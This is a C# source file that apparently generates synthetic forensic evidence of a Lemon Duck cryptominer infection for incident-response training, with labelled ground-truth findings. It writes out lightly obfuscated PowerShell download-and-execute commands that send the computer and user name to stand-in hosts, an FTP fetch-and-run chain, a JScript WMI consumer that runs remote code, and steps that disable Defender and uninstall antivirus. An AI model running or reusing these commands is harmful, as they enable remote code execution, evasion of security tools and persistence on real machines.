using Afterpatch.Generator.EventLog;
using Afterpatch.Generator.Registry;
using Afterpatch.Generator.Scenarios;
using Afterpatch.Generator.Wmi;

namespace Afterpatch.Generator.Attacks;

/// <summary>Lemon Duck on a server, as public reports list its traces; the script bodies are shortened and lead nowhere.</summary>
internal sealed class LemonDuck(Incident incident, DateTime utc)
{
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    private static readonly string[] Rivals = [@"\Update4", @"\Mysa1", @"\Mysa2", @"\ok", @"\oka", @"\sysupdate"];

    private static readonly string[] RivalServices = ["xWinWpdSrv", "Sougoudl", "WinHelp64", "mssecsvc2.1", "SRDSL", "ExpressVNService"];

    private static readonly string[] RivalPrograms = ["xmrig", "conhoste", "lsmosee", "secuams", "minerd"];

    private readonly string[] _names = [incident.Chance.Letters(8), incident.Chance.Letters(7), incident.Chance.Letters(9)];

    public void Happen()
    {
        Start();
        Defences();
        Tasks();
        Subscriptions();
        Network();
        RivalsRemoved();
    }

    private void Start()
    {
        var download = Inert.Clear("I`E`X (Ne`w-Obj`ect Net.WebC`lient).Down`loadS`tring('http://t.amy~nx.example/7p.php?1.0*mail_so*%username%*%computername%')");
        incident.WorkerProcess(utc, PowerShell, $"powershell -w hidden -c {download}");
        incident.Event(ServerEvents.ScriptBlock(utc.AddSeconds(2), download, incident.Chance.Guid()));
    }

    private void Defences()
    {
        incident.Event(ServerEvents.DefenderSetting(utc.AddSeconds(20), "", @"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ = 0x0"));
        incident.Event(ServerEvents.DefenderSetting(utc.AddSeconds(21), "", $@"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Processes\{PowerShell} = 0x0"));
        incident.Event(ServerEvents.DefenderOff(utc.AddSeconds(24)));
        incident.Change(utc.AddSeconds(20), machine => DefenderBaseline.Exclude(machine, "Paths", @"C:\"));
        incident.Change(utc.AddSeconds(21), machine => DefenderBaseline.Exclude(machine, "Processes", PowerShell));
        incident.Change(utc.AddSeconds(24), machine => machine.Software.At(DefenderBaseline.Root + @"\Real-Time Protection").Number("DisableRealtimeMonitoring", 1));
        foreach (var (product, at) in new[] { ("Eset", 28), ("Kaspersky", 31), ("avast", 33) })
            incident.WorkerProcess(utc.AddSeconds(at), @"C:\Windows\System32\cmd.exe", Inert.Clear($"cmd /c start /b wm~ic.exe product where \"name like '%{product}%'\" call unins~tall /nointeractive"), PowerShell);
        incident.Truth("defender-exclusion", "the whole drive was excluded from Defender", "configuration", @"C:\", utc.AddSeconds(20), "succeeded");
        incident.Truth("defender-exclusion", "PowerShell was excluded from Defender", "configuration", PowerShell, utc.AddSeconds(21), "succeeded");
        incident.Truth("defender-off", "Defender's watch in real time was switched off", "configuration", "DisableRealtimeMonitoring", utc.AddSeconds(24), "succeeded");
        incident.Truth("security-product-removed", "security products were asked to remove themselves", "host", "Eset", utc.AddSeconds(28), "succeeded");
    }

    private void Tasks()
    {
        var at = utc.AddSeconds(40);
        Task(@"\blackball", "PT120M", "blackball", "", at);
        incident.Truth("lemon-duck", "the task that says the machine is taken", "task", @"\blackball", at, "succeeded");
        string[] paths = [$@"\{_names[0]}", $@"\{_names[1]}\{_names[1]}", $@"\MicroSoft\Windows\{_names[2]}"];
        foreach (var path in paths)
        {
            Task(path, "PT60M", "powershell", Inert.Clear("-w hidden -c function a($u){$d=(Ne`w-Obj`ect Net.WebC`lient).\"Down`loadD`ata\"($u);I`E`X(-join[char[]]$d)}$url='http://'+'t.amy'+'nx.example';a($url+'/a.jsp?rep_20210316?'+(@($env:COMPUTERNAME,$env:USERNAME,(get-random))-join'*'))"), at);
            incident.Truth("scheduled-task", "a task fetches and runs PowerShell every hour", "task", path, at, "succeeded");
        }
    }

    private void Task(string path, string interval, string command, string arguments, DateTime at)
    {
        var id = incident.Chance.Guid();
        incident.Event(ServerEvents.TaskRegistered(at, path, @"NT AUTHORITY\SYSTEM"));
        incident.Change(at, machine => machine.Tasks.Register(path, TaskXml.Of(at, path, interval, command, arguments), id, at.AddMinutes(1)));
    }

    /// <summary>A filter that only says "taken", and a pair of one random tail that fetches and runs.</summary>
    private void Subscriptions()
    {
        const string query = "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
        var at = utc.AddSeconds(55);
        var tail = incident.Chance.Letters(6);
        var command = Inert.Clear("/c pow~ershell -w hidden -c function a($u){$d=(Ne`w-Obj`ect Net.WebC`lient).\"Down`loadD`ata\"($u);I`E`X(-join[char[]]$d)}a('http://t.zer~9g.example/aa.jsp?rep_20210316?'+(@($env:COMPUTERNAME,$env:USERNAME)-join'*'))");
        incident.Change(at, machine =>
        {
            machine.Wmi.Filter("blackball", query);
            machine.Wmi.Filter("f" + tail, query);
            machine.Wmi.Command("c" + tail, @"c:\windows\system32\cmd.exe", command);
            machine.Wmi.Bind("f" + tail, WmiSchema.CommandLine, "c" + tail);
        });
        incident.Event(ServerEvents.WmiBinding(at, "f" + tail, "c" + tail, query, command.Replace("\"", "\\\"", StringComparison.Ordinal)));
        incident.Truth("wmi-subscription", "a WMI filter that says the machine is taken", "wmi", "blackball", at, "succeeded");
        incident.Truth("wmi-subscription", "a WMI subscription starts PowerShell", "wmi", "c" + tail, at, "succeeded");
    }

    private void Network()
    {
        var at = utc.AddSeconds(62);
        foreach (var (name, rule) in new[]
        {
            ("deny445", "v2.26|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|"), ("deny135", "v2.26|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=135|Name=deny135|"),
            ("SDNSd", "v2.26|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=65529|Name=SDNSd|"),
        })
        {
            var id = incident.Chance.Guid();
            incident.Change(at, machine => machine.Services.At(@"SharedAccess\Parameters\FirewallPolicy\FirewallRules").Text($"{{{id.ToString().ToUpperInvariant()}}}", rule));
            incident.Truth("firewall-rule", "a rule of the firewall by the name that Lemon Duck gives it", "registry", name, at, "succeeded");
        }
        incident.Change(at, machine => machine.Services.At(@"PortProxy\v4tov4\tcp").Text("*/65529", "1.1.1.1/53"));
        incident.Change(at, machine => machine.Services.At(@"Tcpip\Parameters\PersistentRoutes").Text("161.35.107.193,255.255.255.255,0.0.0.0,1", ""));
        incident.Change(at, machine => machine.Services.At(@"LanmanServer\Parameters").Number("DisableCompression", 1));
        incident.Truth("port-proxy", "a port of the server is passed on", "registry", "65529", at, "succeeded");
        incident.Truth("persistent-route", "a route leads an address to nowhere", "registry", "161.35.107.193", at, "succeeded");
        incident.Truth("self-mitigation", "compression of SMB was switched off against others", "registry", "DisableCompression", at, "succeeded");
    }

    /// <summary>A rival was there for weeks; its tasks, services, programs and its subscription go now.</summary>
    private void RivalsRemoved()
    {
        var come = utc.AddDays(-40);
        foreach (var rival in Rivals)
        {
            var id = incident.Chance.Guid();
            incident.Change(come, machine => machine.Tasks.Register(rival, TaskXml.Of(come, rival, "PT30M", "cmd.exe", Inert.Clear("/c echo open ftp.ft~p0930.example>s&echo test>>s&echo 1433>>s&echo binary>>s&echo get a.exe>>s&echo bye>>s&ft~p -s:s&a.exe")), id));
            incident.Change(utc.AddSeconds(70), machine => machine.Tasks.Delete(rival));
            incident.Event(ServerEvents.TaskDeleted(utc.AddSeconds(70), rival, @"NT AUTHORITY\SYSTEM"));
        }
        foreach (var (service, at) in RivalServices.Select((service, i) => (service, utc.AddSeconds(72 + i))))
        {
            incident.Change(come, machine => ServiceBaseline.Add(machine, service, $@"C:\Windows\Fonts\{service}.exe", "LocalSystem", service, 2, 0x10));
            foreach (var verb in (string[])[$"config {service} start= disabled", $"stop {service}", $"delete {service}"])
                incident.WorkerProcess(at, @"C:\Windows\System32\sc.exe", $"\"C:\\Windows\\system32\\sc.exe\" {verb}", PowerShell);
            incident.Change(at, machine => machine.Services.DeleteKey(service));
            incident.Truth("competitor-cleanup", "a service of other malware was disabled, stopped and deleted", "service", service, at, "succeeded");
        }
        foreach (var (name, at) in RivalPrograms.Select((name, i) => (name, utc.AddSeconds(80 + i))))
            incident.WorkerProcess(at, @"C:\Windows\System32\taskkill.exe", $"taskkill /f /im {name}.exe", PowerShell);
        incident.Change(come, machine =>
        {
            machine.Wmi.Filter("coronav4", "SELECT * FROM __TimerEvent WHERE TimerID = 'coronav4_itimer'");
            machine.Wmi.Script("coronav4_consumer", "JScript", Inert.Clear("var toff=3000;var url1=\"http://wmi.1217~bye.example/kill.html\";http=new ActiveXObject(\"Msxml2.Server~XMLHTTP\");http.open(\"GET\",url1,false);http.send();ps=new ActiveXObject(\"WScr~ipt.Sh~ell\");ps.ru~n(http.responseText,0);"));
            machine.Wmi.Bind("coronav4", WmiSchema.ActiveScript, "coronav4_consumer");
        });
        incident.Change(utc.AddSeconds(90), machine => machine.Wmi.Delete("coronav4", "coronav4_consumer"));
        incident.Truth("competitor-cleanup", "tasks of other malware were deleted in bulk", "task", @"\Mysa1", utc.AddSeconds(70), "succeeded");
        incident.Truth("competitor-cleanup", "programs of other malware were ended", "process", RivalPrograms[0], utc.AddSeconds(80), "succeeded");
        incident.Truth("wmi-subscription-removed", "a rival's WMI subscription was deleted", "wmi", "coronav4_consumer", come, "succeeded", utc.AddSeconds(90));
    }
}
